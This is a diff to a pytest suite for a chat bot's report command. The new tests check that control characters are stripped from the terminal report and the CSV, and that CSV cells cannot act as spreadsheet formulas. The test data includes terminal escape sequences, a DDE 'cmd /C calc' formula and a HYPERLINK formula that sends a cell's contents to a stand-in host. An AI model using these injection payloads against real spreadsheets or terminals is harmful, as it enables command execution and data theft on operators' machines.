@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import itertools
 import json
@@ -211,9 +212,10 @@ def test_cli_bad_since_exits_2_with_one_line(
 def test_cli_report_on_an_empty_log_prints_and_writes_csv(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """`python -m bot report --csv FILE` on a new database: the report says nothing was asked; the CSV has its header."""
+    """`python -m bot report --csv FILE` on a log with nothing in it: the report says so; the CSV has its header."""
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
+    asyncio.run(_made(tmp_path / "data"))  # a bot started there once
     assert main(["report", "--since", "1d", "--csv", str(tmp_path / "r.csv")]) == 0
     out, err = capsys.readouterr()
     assert "Nothing was asked in that time." in out and "Wrote 0 row(s)" in err
@@ -241,3 +243,74 @@ def test_cli_report_refuses_an_unwritable_csv_before_reading_anything(
         assert main(["report", "--csv", str(kept)]) == 2
         assert "permission denied" in capsys.readouterr().err
     assert kept.read_text(encoding="utf-8") == "old rows\n"
+
+
+async def _made(data_dir: Path) -> None:
+    async with await Database.open(None, data_dir=data_dir):
+        pass
+
+
+def test_cli_report_where_no_bot_keeps_its_log_says_so_and_makes_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Run from another folder than the bots' (DATA_DIR=data is relative), the report made a new, empty
+    database there (and DATA_DIR's folders) and said "Nothing was asked in that time."."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("DATA_DIR", str(tmp_path / "elsewhere" / "data"))
+    monkeypatch.delenv("DATABASE_URL", raising=False)
+    assert main(["report"]) == 2
+    out, err = capsys.readouterr()
+    assert out == "" and err.count("\n") == 1
+    assert err.startswith(f"ConfigError: no question log at {tmp_path / 'elsewhere' / 'data' / 'citebot.db'}:")
+    assert "DATA_DIR" in err
+    assert not (tmp_path / "elsewhere").exists()
+
+
+ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"  # clear the screen, retitle the terminal, a C1 CSI, a bidi override
+CONTROLS = "\x1b\x07\x9b\u202e"
+
+
+async def test_a_persons_control_characters_never_reach_the_terminal_or_the_csv(db: Database, tmp_path: Path) -> None:
+    """A question the bot could not answer is logged as typed, and a 👎's reason too: their escape sequences
+    were printed to the operator's terminal by `python -m bot report` (and written to the CSV) as they were."""
+    failed = await db.questions.record(
+        platform="discord", asker=1, question=f"{ESCAPES}why?\nreally", outcome=Outcome.FAILED
+    )
+    answered = await db.questions.record(platform="slack", asker=2, question="Who?", outcome=Outcome.ANSWERED)
+    await db.votes.cast(answered, 5, up=False, reason=f"wrong{ESCAPES}one")
+    report = await build_report(db, T0 - timedelta(days=7), embed_words)
+    assert [q.question for q in report.most_asked if q.question.endswith("really")], failed
+    text = report_text(report)
+    assert not any(c in text for c in CONTROLS), ascii(text)
+    assert "“[2J ]0;owned 31m why? really”" in text and "wrong [2J ]0;owned 31m one" in text
+    path = tmp_path / "report.csv"
+    write_csv(report, path)
+    written = path.read_text(encoding="utf-8")
+    assert not any(c in written for c in CONTROLS), ascii(written)
+    assert "why?\nreally" in written  # a line break in a cell is kept, quoted
+
+
+@pytest.mark.parametrize(
+    "typed", ['=HYPERLINK("http://x.example/?"&A1,"more")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+)
+def test_a_csv_cell_is_never_a_formula(tmp_path: Path, typed: str) -> None:
+    """A chat user's question or reason opening with = + - or @ was written as it was: a spreadsheet opening
+    the CSV runs it as a formula."""
+    report = Report(
+        T0,
+        (Gap(typed, 2, (typed, "other"), T0),),
+        (DownVote("a", typed, typed, T0, T0, [], "v1"),),
+        (AskedQuestion(typed, 2, T0),),
+    )
+    path = tmp_path / "r.csv"
+    write_csv(report, path)
+    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1:]
+    cells = [cell for row in rows for cell in (row[2], row[3]) if cell]
+    assert cells and all(cell in (f"'{typed}", f"'{typed} | other") for cell in cells), cells
+
+
+def test_a_csv_cell_of_plain_words_is_as_typed(tmp_path: Path) -> None:
+    report = Report(T0, (), (), (AskedQuestion("What is 2-3? e=mc2 @home", 1, T0),))
+    path = tmp_path / "r.csv"
+    write_csv(report, path)
+    assert list(csv.reader(path.read_text(encoding="utf-8").splitlines()))[1][2] == "What is 2-3? e=mc2 @home"
